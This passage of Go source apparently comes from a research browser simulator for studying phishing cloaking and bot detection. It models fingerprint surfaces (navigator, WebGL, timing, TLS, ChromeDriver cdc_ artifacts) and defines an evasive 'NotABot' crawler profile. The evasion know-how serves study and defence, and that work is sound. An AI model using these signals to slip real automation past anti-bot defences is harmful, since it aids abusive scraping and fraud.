	screen.Set("availHeight", minijs.Number(float64(max(0, prof.ScreenH-40))))
	screen.Set("colorDepth", minijs.Number(24))
	ip.SetGlobal("screen", minijs.ObjectValue(screen))

	// Intl.DateTimeFormat().resolvedOptions().timeZone — the fingerprint
	// probe found in 15+ corpus messages.
	intl := minijs.NewObject()
	intl.Set("DateTimeFormat", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		dtf := minijs.NewObject()
		dtf.Set("resolvedOptions", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
			opts := minijs.NewObject()
			opts.Set("timeZone", minijs.String(prof.Timezone))
			opts.Set("locale", minijs.String(prof.Language))
			return minijs.ObjectValue(opts), nil
		}))
		return minijs.ObjectValue(dtf), nil
	}))
	ip.SetGlobal("Intl", minijs.ObjectValue(intl))
	ip.SetGlobal("__timezoneOffset", minijs.Number(float64(prof.TimezoneOffset)))

	// location.
	pg.locationObj = pg.buildLocation()
	ip.SetGlobal("location", minijs.ObjectValue(pg.locationObj))

	// performance.now(): virtual wall-clock plus CPU time derived from
	// interpreter fuel, scaled by the VM timing skew. On physical hardware
	// (skew 1.0) the readings look organic; in a VM they are coarse and
	// stretched — the red-pill timing channel.
	perf := minijs.NewObject()
	startFuel := ip.Fuel()
	startWall := pg.br.clock().Now()
	perf.Set("now", minijs.NewHostFunc(func(interp *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		wallMs := float64(pg.br.clock().Now().Sub(startWall).Microseconds()) / 1000
		cpuMs := float64(startFuel-interp.Fuel()) / 5000
		skew := prof.VMTimingSkew
		if skew <= 0 {
			skew = 1
		}
		v := wallMs + cpuMs*skew
		if skew != 1 {
			// VM clocks additionally quantize coarsely.
			v = float64(int(v/10)) * 10
		}
		return minijs.Number(v), nil
	}))
	ip.SetGlobal("performance", minijs.ObjectValue(perf))

	// Timers.
	ip.SetGlobal("setTimeout", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		return pg.schedule(args, false), nil
	}))
	ip.SetGlobal("setInterval", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		return pg.schedule(args, true), nil
	}))
	cancel := minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) > 0 {
			id := int(args[0].ToNumber())
			for _, t := range pg.timers {
				if t.id == id {
					t.cancelled = true
				}
			}
		}
		return minijs.Undefined, nil
	})
	ip.SetGlobal("clearTimeout", cancel)
	ip.SetGlobal("clearInterval", cancel)

	// XMLHttpRequest (synchronous semantics; async callbacks fire inline).
	ip.SetGlobal("XMLHttpRequest", minijs.NewHostFunc(pg.xhrConstructor))

	// alert/prompt/confirm record and return neutral values.
	ip.SetGlobal("alert", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) > 0 {
			pg.console = append(pg.console, "alert: "+args[0].ToString())
		}
		return minijs.Undefined, nil
	}))
	ip.SetGlobal("prompt", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.Null, nil
	}))
	ip.SetGlobal("confirm", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.False, nil
	}))

	// document must exist before window so window.document is set.
	docObj := pg.documentObject()
	ip.SetGlobal("document", minijs.ObjectValue(docObj))

	// window: aliases the main globals; scripts also write to it.
	window := minijs.NewObject()
	window.Set("navigator", minijs.ObjectValue(nav))
	window.Set("screen", minijs.ObjectValue(screen))
	window.Set("location", minijs.ObjectValue(pg.locationObj))
	window.Set("document", minijs.ObjectValue(docObj))
	window.Set("innerWidth", minijs.Number(float64(prof.ScreenW)))
	window.Set("innerHeight", minijs.Number(float64(max(0, prof.ScreenH-120))))
	window.Set("addEventListener", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) >= 2 {
			pg.addHandler(nil, args[0].ToString(), args[1])
		}
		return minijs.Undefined, nil
	}))
	if prof.ChromeObject {
		chrome := minijs.NewObject()
		chrome.Set("runtime", minijs.ObjectValue(minijs.NewObject()))
		window.Set("chrome", minijs.ObjectValue(chrome))
		ip.SetGlobal("chrome", minijs.ObjectValue(chrome))
	}
	pg.windowObj = window
	ip.SetGlobal("window", minijs.ObjectValue(window))
	ip.SetGlobal("self", minijs.ObjectValue(window))

	// ChromeDriver/Selenium artifacts: detectors probe for these globals.
	if prof.CDPArtifacts {
		ip.SetGlobal("cdc_adoQpoasnfa76pfcZLmcfl_Array", minijs.ObjectValue(minijs.NewArray()))
		ip.SetGlobal("cdc_adoQpoasnfa76pfcZLmcfl_Promise", minijs.ObjectValue(minijs.NewObject()))
		window.Set("__webdriver_evaluate", minijs.True)
	}
	// Driver-binary leftovers that survive variable renaming: present in
	// every ChromeDriver-based stack regardless of stealth patching.
	if prof.ChromedriverArtifacts {
		window.Set("$chrome_asyncScriptInfo", minijs.True)
		ip.SetGlobal("__driverEvaluateHook", minijs.True)
	}
}

// buildLocation constructs the location object for the page URL.
func (pg *page) buildLocation() *minijs.Object {
	loc := minijs.NewObject()
	loc.Set("href", minijs.String(pg.url.String()))
	loc.Set("protocol", minijs.String(pg.url.Scheme+":"))
	loc.Set("hostname", minijs.String(pg.url.Hostname()))
	loc.Set("host", minijs.String(pg.url.Host))
	loc.Set("pathname", minijs.String(pg.url.Path))
	loc.Set("search", minijs.String(queryString(pg.url.RawQuery)))
	loc.Set("hash", minijs.String(fragmentString(pg.url.Fragment)))
	loc.Set("origin", minijs.String(pg.url.Scheme+"://"+pg.url.Host))
	navigate := minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) > 0 {
			pg.pendingNav = args[0].ToString()
		}
		return minijs.Undefined, nil
	})
	loc.Set("assign", navigate)
	loc.Set("replace", navigate)
	loc.Set("reload", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		pg.pendingNav = pg.url.String()
		return minijs.Undefined, nil
	}))
	return loc
}

func queryString(raw string) string {
	if raw == "" {
		return ""
	}
	return "?" + raw
}

func fragmentString(frag string) string {
	if frag == "" {
		return ""
	}
	return "#" + frag
}

// schedule registers a timer callback.
func (pg *page) schedule(args []minijs.Value, repeating bool) minijs.Value {
	if len(args) == 0 {
		return minijs.Number(0)
	}
	delay := time.Duration(0)
	if len(args) > 1 {
		ms := args[1].ToNumber()
		if ms > 0 {
			delay = time.Duration(ms * float64(time.Millisecond))
		}
	}
	pg.nextTimerID++
	t := &timer{
		id:        pg.nextTimerID,
		due:       pg.br.clock().Now().Add(delay),
		fn:        args[0],
		interval:  delay,
		repeating: repeating,
	}
	pg.timers = append(pg.timers, t)
	return minijs.Number(float64(t.id))
}

// runEventLoop fires due timers in virtual time until the loop drains, the
// wait window is exceeded, a navigation is requested, the fire cap hits, or
// the visit's context is cancelled.
func (pg *page) runEventLoop() {
	deadline := pg.br.clock().Now().Add(pg.br.EventLoopWindow)
	fires := 0
	for fires < pg.br.MaxTimerFires && pg.pendingNav == "" && pg.context().Err() == nil {
		var next *timer
		for _, t := range pg.timers {
			if t.cancelled {
				continue
			}
			if next == nil || t.due.Before(next.due) {
				next = t
			}
		}
		if next == nil || next.due.After(deadline) {
			return
		}
		pg.br.clock().Set(next.due)
		if next.repeating {
			interval := next.interval
			if interval <= 0 {
				interval = time.Millisecond
			}
			next.due = next.due.Add(interval)
		} else {
			next.cancelled = true
		}
		pg.interp.AddFuel(pg.br.ScriptFuel / 4)
		if _, err := pg.interp.CallFunction(next.fn, minijs.Undefined, nil); err != nil {
			pg.errors = append(pg.errors, "timer: "+err.Error())
		}
		pg.checkNavigation()
		fires++
	}
}

// addHandler registers an event handler.
func (pg *page) addHandler(nodeKey any, eventType string, fn minijs.Value) {
	if pg.handlers == nil {
		pg.handlers = map[string][]handlerEntry{}
	}
	eventType = strings.ToLower(eventType)
	pg.handlers[eventType] = append(pg.handlers[eventType], handlerEntry{nodeKey: nodeKey, fn: fn})
}

// dispatchEvent fires handlers for an event type: node-specific handlers
// for the target plus document/window-level handlers (bubble phase).
func (pg *page) dispatchEvent(nodeKey any, eventType string, trusted bool) {
	eventType = strings.ToLower(eventType)
	event := minijs.NewObject()
	event.Set("type", minijs.String(eventType))
	event.Set("isTrusted", minijs.Bool(trusted))
	event.Set("clientX", minijs.Number(pg.br.random()*640))
	event.Set("clientY", minijs.Number(pg.br.random()*480))
	event.Set("preventDefault", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.Undefined, nil
	}))
	entries := append([]handlerEntry{}, pg.handlers[eventType]...)
	for _, h := range entries {
		if h.nodeKey != nil && h.nodeKey != nodeKey {
			continue
		}
		pg.interp.AddFuel(pg.br.ScriptFuel / 8)
		if _, err := pg.interp.CallFunction(h.fn, minijs.Undefined, []minijs.Value{minijs.ObjectValue(event)}); err != nil {
			pg.errors = append(pg.errors, "event "+eventType+": "+err.Error())
		}
	}
	pg.checkNavigation()
}

// checkNavigation detects navigation requested through property writes:
// location.href = ..., window.location = ..., document.location = ...
func (pg *page) checkNavigation() {
	if pg.pendingNav != "" {
		return
	}
	current := pg.url.String()
	if href := pg.locationObj.Get("href"); href.ToString() != current {
		pg.pendingNav = href.ToString()
		return
	}
	if pg.windowObj != nil {
		if v := pg.windowObj.Get("location"); v.Kind() == minijs.KindString && v.ToString() != current {
			pg.pendingNav = v.ToString()
		}
	}
}

// xhrConstructor implements `new XMLHttpRequest()`.
func (pg *page) xhrConstructor(_ *minijs.Interp, this minijs.Value, _ []minijs.Value) (minijs.Value, error) {
	obj := this.Object()
	if obj == nil {
		obj = minijs.NewObject()
	}
	var method, target string
	reqHeaders := map[string]string{}
	obj.Set("readyState", minijs.Number(0))
	obj.Set("status", minijs.Number(0))
	obj.Set("responseText", minijs.String(""))
	obj.Set("open", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) >= 2 {
			method = strings.ToUpper(args[0].ToString())
			target = args[1].ToString()
		}
		obj.Set("readyState", minijs.Number(1))
		return minijs.Undefined, nil
	}))
	obj.Set("setRequestHeader", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) >= 2 {
			reqHeaders[args[0].ToString()] = args[1].ToString()
		}
		return minijs.Undefined, nil
	}))
	obj.Set("send", minijs.NewHostFunc(func(interp *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		body := ""
		if len(args) > 0 && !args[0].IsNullish() {
			body = args[0].ToString()
		}
		resp, _ := pg.request(method, target, "xhr", reqHeaders, body)
		status := 0
		text := ""
		if resp != nil {
			status = resp.Status
			text = string(resp.Body)
		}
		obj.Set("status", minijs.Number(float64(status)))
		obj.Set("responseText", minijs.String(text))
		obj.Set("readyState", minijs.Number(4))
		if cb := obj.Get("onreadystatechange"); cb.Kind() == minijs.KindObject && cb.Object().Callable() {
			if _, err := interp.CallFunction(cb, minijs.ObjectValue(obj), nil); err != nil {
				pg.errors = append(pg.errors, "xhr callback: "+err.Error())
			}
		}
		if cb := obj.Get("onload"); cb.Kind() == minijs.KindObject && cb.Object().Callable() {
			if _, err := interp.CallFunction(cb, minijs.ObjectValue(obj), nil); err != nil {
				pg.errors = append(pg.errors, "xhr onload: "+err.Error())
			}
		}
		return minijs.Undefined, nil
	}))
	return minijs.ObjectValue(obj), nil
}

// sortTimersForTest orders timers by id (test helper determinism).
func (pg *page) sortTimersForTest() {
	sort.Slice(pg.timers, func(i, j int) bool { return pg.timers[i].id < pg.timers[j].id })
}

var _ = (*page).sortTimersForTest

// request is the page-scoped HTTP helper used by XHR and subresources.
func (pg *page) request(method, ref, initiator string, extraHeaders map[string]string, body string) (*webnet.Response, error) {
	abs := pg.resolveRef(ref)
	return pg.br.fetch(pg.context(), method, abs, initiator, pg.url.String(), extraHeaders, body, pg.rec)
}
