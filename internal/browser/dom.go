package browser

import (
	"strings"

	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/minijs"
)

// elementObject wraps an htmlx node as a script-visible element, caching
// wrappers so identity comparisons hold across lookups.
func (pg *page) elementObject(node *htmlx.Node) *minijs.Object {
	if obj, ok := pg.domCache[node]; ok {
		return obj
	}
	obj := minijs.NewObject()
	pg.domCache[node] = obj
	obj.HostData = node

	obj.Set("tagName", minijs.String(strings.ToUpper(node.Tag)))
	obj.Set("id", minijs.String(node.Attr("id")))
	styleObj := minijs.NewObject()
	for _, kv := range parseStyle(node.Attr("style")) {
		styleObj.Set(cssToCamel(kv[0]), minijs.String(kv[1]))
	}
	obj.Set("style", minijs.ObjectValue(styleObj))

	obj.Set("getAttribute", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) == 0 {
			return minijs.Null, nil
		}
		name := strings.ToLower(args[0].ToString())
		if v, ok := node.Attrs[name]; ok {
			return minijs.String(v), nil
		}
		return minijs.Null, nil
	}))
	obj.Set("setAttribute", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) >= 2 {
			if node.Attrs == nil {
				node.Attrs = map[string]string{}
			}
			name := strings.ToLower(args[0].ToString())
			node.Attrs[name] = args[1].ToString()
			pg.afterAttrChange(node, name)
		}
		return minijs.Undefined, nil
	}))
	obj.Set("addEventListener", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) >= 2 {
			pg.addHandler(node, args[0].ToString(), args[1])
		}
		return minijs.Undefined, nil
	}))
	obj.Set("appendChild", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) == 0 {
			return minijs.Undefined, nil
		}
		childObj := args[0].Object()
		if childObj == nil {
			return minijs.Undefined, nil
		}
		childNode, ok := childObj.HostData.(*htmlx.Node)
		if !ok {
			return minijs.Undefined, nil
		}
		htmlx.AppendChild(node, childNode)
		pg.processNewNode(childNode, childObj)
		return args[0], nil
	}))
	obj.Set("click", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		// Script-initiated clicks are untrusted regardless of profile.
		pg.dispatchEvent(node, "click", false)
		return minijs.Undefined, nil
	}))
	obj.Set("getContext", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		// Canvas/WebGL fingerprinting surface.
		ctx := minijs.NewObject()
		if len(args) > 0 && strings.HasPrefix(args[0].ToString(), "webgl") {
			renderer := pg.br.Profile.GPURenderer
			ctx.Set("getParameter", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
				return minijs.String(renderer), nil
			}))
			return minijs.ObjectValue(ctx), nil
		}
		ctx.Set("fillText", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
			return minijs.Undefined, nil
		}))
		ctx.Set("fillRect", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
			return minijs.Undefined, nil
		}))
		obj.Set("toDataURL", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
			return minijs.String("data:image/png;base64,canvas-" + pg.br.Profile.Name), nil
		}))
		return minijs.ObjectValue(ctx), nil
	}))
	return obj
}

// elementGetDynamic resolves element properties that must read live state.
// It is installed as explicit getter methods because the interpreter has no
// property traps; scripts in the corpus use the method forms too.
func (pg *page) installLiveProps(obj *minijs.Object, node *htmlx.Node) {
	obj.Set("value", minijs.String(node.Attr("value")))
}

// afterAttrChange reacts to attribute writes that have side effects.
func (pg *page) afterAttrChange(node *htmlx.Node, name string) {
	if name == "src" && (node.Tag == "img" || node.Tag == "iframe" || node.Tag == "script") {
		pg.processNewNode(node, nil)
	}
}

// processNewNode handles dynamically inserted content: fetch iframe/img
// sources, execute script nodes.
func (pg *page) processNewNode(node *htmlx.Node, obj *minijs.Object) {
	_ = obj
	htmlx.Walk(node, func(n *htmlx.Node) {
		if n.Kind != htmlx.KindElement {
			return
		}
		switch n.Tag {
		case "img":
			if src := n.Attr("src"); src != "" {
				pg.fetchSubresource(src, "img")
			}
		case "iframe":
			if src := n.Attr("src"); src != "" {
				pg.loadFrame(src)
			}
		case "script":
			if src := n.Attr("src"); src != "" {
				pg.runExternalScript(src)
			} else if text := n.InnerText(); strings.TrimSpace(text) != "" {
				pg.runScript(text, "dynamic")
			}
		}
	})
}

// documentObject builds the document global.
func (pg *page) documentObject() *minijs.Object {
	doc := minijs.NewObject()
	body := pg.findOrCreate("body")
	head := pg.findOrCreate("head")
	docEl := pg.findOrCreate("html")

	doc.Set("title", minijs.String(pg.docTitle()))
	bodyObj := pg.elementObject(body)
	pg.installInnerHTML(bodyObj, body)
	doc.Set("body", minijs.ObjectValue(bodyObj))
	headObj := pg.elementObject(head)
	pg.installInnerHTML(headObj, head)
	doc.Set("head", minijs.ObjectValue(headObj))
	docElObj := pg.elementObject(docEl)
	pg.installInnerHTML(docElObj, docEl)
	doc.Set("documentElement", minijs.ObjectValue(docElObj))

	doc.Set("getElementById", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) == 0 {
			return minijs.Null, nil
		}
		node := htmlx.FindByID(pg.doc, args[0].ToString())
		if node == nil {
			return minijs.Null, nil
		}
		obj := pg.elementObject(node)
		pg.installInnerHTML(obj, node)
		pg.installLiveProps(obj, node)
		return minijs.ObjectValue(obj), nil
	}))
	doc.Set("getElementsByTagName", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		arr := minijs.NewArray()
		if len(args) == 0 {
			return minijs.ObjectValue(arr), nil
		}
		for _, n := range htmlx.Find(pg.doc, strings.ToLower(args[0].ToString())) {
			arr.Elems = append(arr.Elems, minijs.ObjectValue(pg.elementObject(n)))
		}
		return minijs.ObjectValue(arr), nil
	}))
	doc.Set("createElement", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		tag := "div"
		if len(args) > 0 {
			tag = strings.ToLower(args[0].ToString())
		}
		node := &htmlx.Node{Kind: htmlx.KindElement, Tag: tag, Attrs: map[string]string{}}
		obj := pg.elementObject(node)
		pg.installInnerHTML(obj, node)
		obj.Set("src", minijs.String("")) // settable before attach
		return minijs.ObjectValue(obj), nil
	}))
	doc.Set("addEventListener", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) >= 2 {
			pg.addHandler(nil, args[0].ToString(), args[1])
		}
		return minijs.Undefined, nil
	}))
	doc.Set("write", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) > 0 {
			frag := htmlx.Parse(args[0].ToString())
			for _, c := range frag.Children {
				htmlx.AppendChild(body, c)
				// Only the newly written nodes are processed; re-walking
				// the whole body would re-execute the calling script.
				pg.processNewNode(c, nil)
			}
		}
		return minijs.Undefined, nil
	}))
	// document.cookie: reads join the jar; writes append if enabled.
	doc.Set("cookie", minijs.String(pg.cookieHeader()))
	doc.Set("setCookie", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) > 0 && pg.br.Profile.CookiesEnabled {
			pg.br.setCookie(pg.host(), args[0].ToString())
			doc.Set("cookie", minijs.String(pg.cookieHeader()))
		}
		return minijs.Undefined, nil
	}))
	doc.Set("location", minijs.ObjectValue(pg.locationObj))
	doc.Set("referrer", minijs.String(pg.referrer))
	return doc
}

// installInnerHTML equips an element wrapper with innerHTML get/set via
// host functions plus a plain property snapshot.
func (pg *page) installInnerHTML(obj *minijs.Object, node *htmlx.Node) {
	update := func() {
		var sb strings.Builder
		for _, c := range node.Children {
			sb.WriteString(htmlx.Render(c))
		}
		obj.Set("innerHTML", minijs.String(sb.String()))
		obj.Set("innerText", minijs.String(node.InnerText()))
	}
	update()
	obj.Set("setInnerHTML", minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) == 0 {
			return minijs.Undefined, nil
		}
		frag := htmlx.Parse(args[0].ToString())
		htmlx.ReplaceChildren(node, frag)
		pg.processNewNode(node, obj)
		update()
		return minijs.Undefined, nil
	}))
}

func (pg *page) docTitle() string {
	titles := htmlx.Find(pg.doc, "title")
	if len(titles) > 0 {
		return strings.TrimSpace(titles[0].InnerText())
	}
	return ""
}

// findOrCreate returns the first element with the tag, creating it under
// the document root when the page omitted it.
func (pg *page) findOrCreate(tag string) *htmlx.Node {
	if nodes := htmlx.Find(pg.doc, tag); len(nodes) > 0 {
		return nodes[0]
	}
	node := &htmlx.Node{Kind: htmlx.KindElement, Tag: tag, Attrs: map[string]string{}}
	htmlx.AppendChild(pg.doc, node)
	return node
}

// parseStyle splits "a:b;c:d" into ordered pairs.
func parseStyle(style string) [][2]string {
	var out [][2]string
	for _, part := range strings.Split(style, ";") {
		kv := strings.SplitN(part, ":", 2)
		if len(kv) != 2 {
			continue
		}
		k := strings.TrimSpace(strings.ToLower(kv[0]))
		v := strings.TrimSpace(kv[1])
		if k != "" && v != "" {
			out = append(out, [2]string{k, v})
		}
	}
	return out
}

// cssToCamel converts background-color to backgroundColor.
func cssToCamel(prop string) string {
	parts := strings.Split(prop, "-")
	for i := 1; i < len(parts); i++ {
		if parts[i] != "" {
			parts[i] = strings.ToUpper(parts[i][:1]) + parts[i][1:]
		}
	}
	return strings.Join(parts, "")
}
