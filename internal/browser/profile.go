// Package browser simulates a web browser for the crawler fleet: it fetches
// pages over the simulated internet, parses them, executes their scripts in
// a minijs interpreter wired to a browser-shaped global environment
// (window, navigator, screen, document, location, timers, XMLHttpRequest,
// performance), runs a virtual-time event loop, follows script and meta
// redirects, and renders deterministic screenshots.
//
// A Profile describes the observable fingerprint surface — exactly the
// attributes that the bot-detection services of Section IV-D and the
// client-side cloaking scripts of Section V-C probe. Each crawler in the
// Table I comparison is a Profile; NotABot's profile is indistinguishable
// from a human-operated Chrome.
package browser

// Profile is the complete observable fingerprint of a browser instance.
type Profile struct {
	// Name identifies the profile in logs and tables.
	Name string
	// UserAgent is sent as the User-Agent header and exposed via
	// navigator.userAgent. Headless builds of Chrome advertise
	// "HeadlessChrome" here.
	UserAgent string
	// Headless marks headless operation; several detectors infer it from
	// correlated signals (plugins, chrome object, UA).
	Headless bool
	// WebdriverFlag is the value of navigator.webdriver. Instrumented
	// browsers expose true unless the AutomationControlled flag is
	// disabled, which is exactly what NotABot does.
	WebdriverFlag bool
	// ChromeObject controls the presence of window.chrome, absent in
	// headless Chrome and in non-Chrome engines.
	ChromeObject bool
	// PluginCount is navigator.plugins.length; 0 in headless Chrome.
	PluginCount int
	// Language and Languages mirror navigator.language / languages.
	Language  string
	Languages []string
	// Platform mirrors navigator.platform.
	Platform string
	// Timezone is the IANA zone reported by Intl; TimezoneOffset is the
	// matching Date.getTimezoneOffset() value in minutes. Mismatched
	// pairs are a cloaking tell.
	Timezone       string
	TimezoneOffset int
	// ScreenW/ScreenH are the screen dimensions; 0x0 or tiny dimensions
	// flag virtualized displays.
	ScreenW, ScreenH int
	// CookiesEnabled mirrors navigator.cookieEnabled; crawlers that
	// disable cookies are flagged by fingerprinting cloaks.
	CookiesEnabled bool
	// TrustedEvents controls whether synthetic input events carry
	// isTrusted == true. Events injected through the CDP Input domain are
	// trusted; events dispatched from script are not.
	TrustedEvents bool
	// MouseMovement controls whether the crawler generates mouse-move
	// events at all during a visit.
	MouseMovement bool
	// TLSFingerprint is the JA3-style fingerprint of the TLS stack.
	// Browser stacks and HTTP-library stacks differ; AnonWAF inspects it.
	TLSFingerprint string
	// InterceptionCacheQuirk reproduces the Puppeteer request-interception
	// bug the paper found: enabling interception forces Cache-Control:
	// no-cache and Pragma: no-cache on every request.
	InterceptionCacheQuirk bool
	// CDPArtifacts marks leftover automation globals (cdc_* variables
	// from ChromeDriver, __selenium_unwrapped, etc.).
	CDPArtifacts bool
	// VMTimingSkew models running inside a virtual machine: coarse,
	// skewed performance.now() readings. 1.0 means physical hardware.
	VMTimingSkew float64
	// GPURenderer is the WebGL renderer string. Headless Chrome renders
	// with SwiftShader (software); a real desktop exposes its GPU. Stealth
	// plugins can patch navigator but cannot conjure a GPU.
	GPURenderer string
	// SendAcceptLanguage controls the Accept-Language request header,
	// which headless Chrome historically omitted.
	SendAcceptLanguage bool
	// ChromedriverArtifacts marks driver-binary leftovers that survive
	// stealth patching (renamed cdc_ slots, asyncScriptInfo) — present in
	// every ChromeDriver-based stack, absent in pure-CDP tools.
	ChromedriverArtifacts bool
	// PluginNames are the navigator.plugins entries. Real Chrome ships a
	// fixed, well-known list; stealth plugins fake generic entries.
	PluginNames []string
}

// RealChromePlugins is the plugin list of a stock Chrome build.
var RealChromePlugins = []string{
	"PDF Viewer", "Chrome PDF Viewer", "Chromium PDF Viewer",
	"Microsoft Edge PDF Viewer", "WebKit built-in PDF",
}

const _chromeUA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 " +
	"(KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36"

const _headlessUA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 " +
	"(KHTML, like Gecko) HeadlessChrome/121.0.0.0 Safari/537.36"

// _browserTLS is the JA3-style fingerprint of a real Chrome TLS stack;
// _toolTLS is the fingerprint of Go/Python/Java HTTP-library stacks.
const (
	_browserTLS = "771,4865-4866-4867,chrome-grease"
	_toolTLS    = "771,4865-4866,generic-library"
)

// HumanChrome returns the fingerprint of a human-operated Chrome on
// physical hardware — the reference every detector compares against.
func HumanChrome() Profile {
	return Profile{
		Name:               "human-chrome",
		UserAgent:          _chromeUA,
		Headless:           false,
		WebdriverFlag:      false,
		ChromeObject:       true,
		PluginCount:        5,
		Language:           "en-US",
		Languages:          []string{"en-US", "en"},
		Platform:           "Win32",
		Timezone:           "Europe/Paris",
		TimezoneOffset:     -60,
		ScreenW:            1920,
		ScreenH:            1080,
		CookiesEnabled:     true,
		TrustedEvents:      true,
		MouseMovement:      true,
		TLSFingerprint:     _browserTLS,
		VMTimingSkew:       1.0,
		GPURenderer:        "ANGLE (NVIDIA, NVIDIA GeForce RTX 3060 Direct3D11)",
		SendAcceptLanguage: true,
		PluginNames:        RealChromePlugins,
	}
}

// NotABot returns the paper's evasive crawler profile: a real, non-headless
// Chrome on a physical machine with a mobile-data IP, the
// AutomationControlled flag disabled (webdriver=false), request
// interception off, and trusted synthetic mouse movement. Its observable
// surface is identical to HumanChrome.
func NotABot() Profile {
	p := HumanChrome()
	p.Name = "notabot"
	return p
}
