package browser

import (
	"strconv"
	"strings"

	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/minijs"
)

// Screenshot geometry: a compact fixed viewport. The classifier compares
// screenshots by fuzzy hash, so absolute size only needs to be consistent.
const (
	shotW = 256
	shotH = 192
)

// renderScreenshot rasterizes the page like the original pipeline's
// screenshot step: block elements stack vertically, inline styles set
// backgrounds and ink colors, text renders in the bitmap font, and a
// document-level hue-rotate filter (the Section V-C2d evasion) is applied
// last when a script installed one.
func renderScreenshot(pg *page) *imaging.Image {
	img := imaging.MustNew(shotW, shotH, imaging.White)
	body := pg.findOrCreate("body")
	// Body background.
	if bg, ok := styleColor(pg, body, "background"); ok {
		img.FillRect(0, 0, shotW, shotH, bg)
	}
	y := 2
	renderBlock(pg, img, body, &y)
	// Document-level CSS filter installed by script?
	if deg, ok := hueRotation(pg); ok {
		img.HueRotate(deg)
	}
	return img
}

// _blockTags render as stacked rows.
var _blockTags = map[string]bool{
	"div": true, "h1": true, "h2": true, "h3": true, "p": true,
	"form": true, "input": true, "button": true, "a": true, "img": true,
	"iframe": true, "label": true, "header": true, "footer": true,
	"section": true, "span": true,
}

func renderBlock(pg *page, img *imaging.Image, node *htmlx.Node, y *int) {
	for _, child := range node.Children {
		if *y >= shotH {
			return
		}
		switch child.Kind {
		case htmlx.KindText:
			text := strings.TrimSpace(child.Text)
			if text != "" {
				drawRow(pg, img, node, text, y, false)
			}
		case htmlx.KindElement:
			if !_blockTags[child.Tag] {
				renderBlock(pg, img, child, y)
				continue
			}
			switch child.Tag {
			case "input":
				drawInput(img, child, y)
			case "button":
				drawRow(pg, img, child, firstText(child, "SUBMIT"), y, true)
			case "img", "iframe":
				drawPlaceholder(img, child, y)
			default:
				// Containers with their own background paint a band first.
				if bg, ok := styleColor(pg, child, "background"); ok {
					h := styleHeight(pg, child, 18)
					img.FillRect(0, *y, shotW, *y+h, bg)
				}
				if text := ownText(child); text != "" {
					drawRow(pg, img, child, text, y, false)
				}
				renderBlock(pg, img, child, y)
			}
		}
	}
}

// drawRow draws one text row styled by the element.
func drawRow(pg *page, img *imaging.Image, node *htmlx.Node, text string, y *int, boxed bool) {
	h := styleHeight(pg, node, 14)
	if bg, ok := styleColor(pg, node, "background"); ok {
